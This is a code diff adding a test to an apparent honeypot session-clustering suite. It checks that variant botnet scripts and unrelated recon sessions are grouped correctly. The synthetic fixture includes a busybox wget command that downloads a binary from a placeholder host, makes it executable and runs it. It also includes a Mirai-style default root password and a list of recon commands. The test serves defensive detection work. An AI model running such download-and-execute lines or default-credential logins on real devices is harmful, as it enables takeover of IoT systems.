@@ -467,3 +467,74 @@ def test_a_file_name_is_never_a_host_so_waves_with_new_script_names_stay_one_cam
 )
 def test_only_drawn_strings_count_as_secrets(password: str, random_looking: bool) -> None:
     assert (secret_bits(password) >= RANDOM_SECRET_MIN_BITS) is random_looking
+
+
+RECON_LINES = [
+    "uname -a",
+    "whoami",
+    "id",
+    "cat /proc/cpuinfo",
+    "free -m",
+    "w",
+    "uptime",
+    "ls -la",
+    "ps aux",
+    "nproc",
+    "df -h",
+    "cat /etc/issue",
+    "ifconfig",
+    "last",
+    "history",
+]
+
+
+def _variant_botnet(rng: random.Random, n_bots: int) -> tuple[list[AttackSession], list[str], list[str]]:
+    """A loader build whose bots skip optional steps and name their download at random, beside
+    unrelated intruders typing common recon in their own order: (sessions, bots, intruders)."""
+    bots = [random_ip(rng) for _ in range(n_bots)]
+    loader = "http://203.0.113.9/bins/arm7"
+    sessions = []
+    for k, ip in enumerate(bots):
+        token = "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(6))
+        script = [
+            "sh",
+            "shell",
+            f"/bin/busybox {token}",
+            *(line for line in TOOLKIT[4:7] if rng.random() < 0.5),
+        ]
+        downloads: list[tuple[str, str | None]] = []
+        if k % 2:
+            drop = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))
+            script.append(f"cd /tmp; /bin/busybox wget {loader} -O {drop}; chmod 777 {drop}; ./{drop} arm7")
+            downloads.append((loader, "7c" * 32))
+        sessions.append(
+            session(
+                ip, rng.uniform(0, 86400), logins=[("root", "xc3511")], success=True,
+                commands=script, downloads=downloads, port=23,
+            )
+        )  # fmt: skip
+    intruders = [random_ip(rng) for _ in range(30)]
+    for ip in intruders:
+        commands = rng.sample(RECON_LINES, rng.randint(3, 5))
+        sessions.append(
+            session(ip, rng.uniform(0, 86400), logins=[("root", "admin")], success=True, commands=commands)
+        )
+    return sessions, bots, intruders
+
+
+def test_a_botnet_does_not_discount_its_own_script_by_typing_variants_of_it() -> None:
+    """Optional steps and a random file name per bot make nearly every session's script distinct;
+    those variants are one toolkit, so they count once when a line's commonness is measured, and
+    the bots that skipped the download join the ones that fetched it through the lines they share.
+    Unrelated intruders typing common recon in their own order still join nobody."""
+    recalls = []
+    for seed in (37, 38, 39):
+        rng = random.Random(seed)
+        sessions, bots, intruders = _variant_botnet(rng, 24)
+        result = analyze_sessions(sessions + background(rng, 60, span_s=86400), {})
+        recalls.append(_pair_recall(result, bots))
+        assert _merged_with(result, set(intruders)) == 0
+    # Counted template by template, the build's own lines weighed half: only the bots that
+    # fetched the loader linked (pooled recall 0.24); the bots that skipped it now join through
+    # the lines they share wherever two of them typed the same script.
+    assert sum(recalls) / len(recalls) >= 0.5
